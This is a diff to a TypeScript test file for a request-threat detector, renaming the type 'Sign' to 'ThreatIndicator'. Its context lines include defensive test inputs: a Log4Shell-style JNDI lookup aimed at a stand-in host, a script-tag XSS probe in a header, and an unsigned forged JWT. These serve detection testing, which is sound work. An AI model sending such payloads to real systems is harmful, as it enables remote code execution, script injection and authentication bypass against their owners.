@@ -1,4 +1,4 @@
-import type { Sign } from '@aera/contracts';
+import type { ThreatIndicator } from '@aera/contracts';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { injectionPatterns } from './injection-patterns.ts';
@@ -17,7 +17,7 @@ const ordinary: ObservedRequest = {
 const signs = (seen: Partial<ObservedRequest>) => detectIndicators({ ...ordinary, ...seen });
 
 describe('the signs of an answer', () => {
-  it.each<[string | null, number, string | null, Sign[]]>([
+  it.each<[string | null, number, string | null, ThreatIndicator[]]>([
     ['address-blocked', 403, null, ['blocked']],
     ['cross-site', 403, '/api/contacts', ['cross-site']],
     ['malformed-address', 400, null, ['malformed']],
@@ -113,7 +113,7 @@ describe('the signs of an address', () => {
 });
 
 describe('the signs of header fields', () => {
-  it.each<[ObservedRequest['headers'], Sign[]]>([
+  it.each<[ObservedRequest['headers'], ThreatIndicator[]]>([
     [{ 'user-agent': '${jndi:ldap://203.0.113.9/a}' }, ['injection-probe']],
     [{ referer: 'https://x.example/<script>alert(1)</script>' }, ['injection-probe']],
     [{ 'x-aera-identity': 'eyJhbGciOiJub25lIn0.e30.' }, ['forged-token']],
